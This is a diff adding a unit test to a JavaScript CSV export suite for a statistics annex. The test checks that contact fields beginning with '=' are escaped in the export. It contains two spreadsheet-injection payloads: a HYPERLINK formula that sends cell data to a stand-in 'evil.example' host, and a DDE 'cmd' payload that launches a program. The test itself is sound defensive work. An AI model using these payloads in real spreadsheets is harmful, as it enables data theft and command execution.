@@ -56,6 +56,15 @@ describe('annexCsv: the 统计表 in the annex’s layout', () => {
     ]);
   });
 
+  it('never hands Excel a formula from the settings: a contact that begins with = is shown, not run', () => {
+    const hostile = { ...CONTACT, contact: '=HYPERLINK("http://evil.example/?"&A1,"点此")', officePhone: "=cmd|' /C calc'!A0" };
+    const rows = cellsOf(csvFor(hostile));
+    const cells = rows.flat().filter((cell) => cell.includes('HYPERLINK') || cell.includes('cmd|'));
+    expect(cells).toEqual([`'${hostile.contact}`, `'${hostile.officePhone}`]);
+    // The grid below the contact lines is as it was.
+    expect(rows.slice(5)).toEqual(cellsOf(csvFor(CONTACT)).slice(5));
+  });
+
   it('has the workbook’s cells in the workbook’s places, each merged cell’s text once in its top-left cell', async () => {
     for (const contact of [{}, CONTACT]) {
       const workbook = new ExcelJS.Workbook();
